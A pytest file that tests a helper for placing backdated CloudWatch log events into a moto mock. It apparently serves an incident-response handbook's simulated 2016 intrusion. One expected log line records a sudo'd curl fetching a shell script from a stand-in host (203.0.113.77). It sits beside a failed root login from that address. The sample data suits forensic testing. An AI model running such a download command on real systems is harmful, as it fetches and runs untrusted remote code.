"""Placing log events older than moto's 14-day PutLogEvents limit."""

from __future__ import annotations

import awscli  # noqa: F401  isort: skip

from datetime import datetime, timezone

import pytest
from moto.logs.exceptions import ResourceNotFoundException

from handbook.simulation.logs import put_old_events

from .conftest import fixture

# The handbook's filter-log-events window: 2016-12-20 01:30:00Z .. 07:05:58Z.
START, END = 1482197400000, 1482217558365


@pytest.fixture
def logs(client):
    return client("logs")


def test_the_api_refuses_old_events(logs):
    logs.create_log_group(logGroupName="my-group")
    logs.create_log_stream(logGroupName="my-group", logStreamName="20161220")
    response = logs.put_log_events(
        logGroupName="my-group", logStreamName="20161220", logEvents=[{"timestamp": START + 1000, "message": "x"}]
    )
    assert "tooOldLogEventEndIndex" in response["rejectedLogEventsInfo"]


def test_old_events_are_found_in_the_handbook_window(logs):
    placed = put_old_events("my-group", "20161220", fixture("logs_2016_events.json"))
    assert placed == 4
    found = logs.filter_log_events(logGroupName="my-group", startTime=START, endTime=END)["events"]
    assert [e["message"] for e in found] == [
        "Accepted publickey for ec2-user from 198.51.100.23",
        "sudo: ec2-user : COMMAND=/usr/bin/curl http://203.0.113.77/x.sh",
        "Failed password for root from 203.0.113.77",
    ]
    matched = logs.filter_log_events(logGroupName="my-group", startTime=START, endTime=END, filterPattern="Failed")
    assert [e["message"] for e in matched["events"]] == ["Failed password for root from 203.0.113.77"]


def test_events_are_stored_in_time_order(logs):
    put_old_events(
        "g", "s",
        [
            {"timestamp": "2016-06-01T00:00:02Z", "message": "second"},
            {"timestamp": datetime(2016, 6, 1, tzinfo=timezone.utc), "message": "first"},
        ],
    )
    got = logs.get_log_events(logGroupName="g", logStreamName="s", startFromHead=True)["events"]
    assert [e["message"] for e in got] == ["first", "second"]
    assert got[0]["timestamp"] == 1464739200000


def test_existing_group_and_stream_are_reused(logs):
    logs.create_log_group(logGroupName="my-logs")
    logs.create_log_stream(logGroupName="my-logs", logStreamName="20150601")
    put_old_events("my-logs", "20150601", [{"timestamp": 1433116800000, "message": "June 2015"}])
    streams = logs.describe_log_streams(logGroupName="my-logs")["logStreams"]
    assert [s["firstEventTimestamp"] for s in streams] == [1433116800000]


def test_missing_group_without_create(aws):
    with pytest.raises(ResourceNotFoundException):
        put_old_events("absent", "s", [{"timestamp": 0, "message": "x"}], create=False)


def test_other_region(client):
    put_old_events("g", "s", [{"timestamp": 1, "message": "x"}], region="eu-west-1")
    assert client("logs", region="eu-west-1").describe_log_groups()["logGroups"][0]["logGroupName"] == "g"
    assert client("logs").describe_log_groups()["logGroups"] == []
